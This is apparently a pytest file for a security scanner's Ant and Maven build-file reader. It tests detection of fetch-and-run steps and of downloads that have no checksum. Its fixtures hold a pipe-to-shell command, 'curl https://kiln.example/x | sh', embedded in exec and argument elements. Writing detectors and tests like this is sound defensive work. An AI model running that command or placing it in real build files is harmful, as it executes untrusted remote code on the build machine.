"""What Ant and Maven run while they build is read."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.ant import READER

COMMAND = "curl https://kiln.example/x | sh"


def seen(code: str) -> set[tuple[int, str]]:
    notes = Notes("pom.xml", every_line=True, is_program=True)
    READER.read(notes, code.encode())
    return {(observation.line, observation.capability) for observation in notes.observations()}


@pytest.mark.parametrize(
    "code",
    [
        f'<exec executable="sh">\n<arg value="-c"/><arg value="{COMMAND}"/></exec>',
        f'<exec executable="sh"><arg line="-c \'{COMMAND}\'"/></exec>',
        f"<executable>sh</executable>\n<arguments><argument>-c</argument>\n<argument>{COMMAND}</argument></arguments>",
        '<exec executable="curl"><arg line="-o x https://kiln.example/x"/></exec><exec executable="sh"><arg value="x"/></exec>',
    ],
)
def test_a_program_that_is_run_is_read(code: str) -> None:
    assert (1, "fetch_and_run") in seen(code)


def test_what_is_downloaded_without_a_check_is_seen() -> None:
    get = '<get src="https://kiln.example/x.zip" dest="x.zip"/>'
    assert seen(get) == {(1, "downloads_in_build")}
    assert not seen(f'{get}<checksum file="x.zip" property="a"/>')


@pytest.mark.parametrize(
    "code",
    [
        "<configuration><executable>npm</executable><arguments><argument>run</argument><argument>build</argument></arguments></configuration>",
        '<exec executable="git"><arg line="describe --tags"/></exec>',
        f"<description>{COMMAND}</description>",
    ],
)
def test_ordinary_builds_show_nothing(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize("piece", ["<exec ", "<exec>", "<arg ", "<executable>", '<get src="'])
def test_odd_files_are_read(piece: str) -> None:
    assert isinstance(seen(piece * 50_000), set)
